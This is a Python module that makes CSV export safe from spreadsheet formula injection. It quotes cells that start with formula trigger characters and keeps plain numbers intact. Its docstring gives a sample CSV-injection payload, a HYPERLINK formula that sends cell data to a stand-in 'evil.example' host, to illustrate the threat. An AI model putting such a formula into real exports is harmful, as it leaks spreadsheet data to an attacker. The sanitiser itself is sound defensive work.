"""CSV files for people, who open them in a spreadsheet: every CSV dunning writes goes through
`writer`, so that no cell can run as a formula.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, after a tab or a
carriage return) as a formula: a customer name or an invoice number such as
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would send the sheet's data away when
clicked (OWASP, "CSV Injection"). Such a cell is written with a single quote `'` in front, which
makes the spreadsheet show it as text. A cell that is a plain decimal number (`-12.50`, a credit
note's amount) is left as it is: it cannot be a formula, and it must stay a number.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(\.\d+)?", re.ASCII)


def safe_cell(value: Any) -> Any:
    """`value` as a cell a spreadsheet shows as text, never runs (see the module's docstring)."""
    if value is None or isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(_TRIGGERS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class Writer:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, cells: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in cells])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle: IO[str], **options: Any) -> Writer:
    """A CSV writer for files people open in a spreadsheet (`options` as for `csv.writer`)."""
    return Writer(handle, **options)
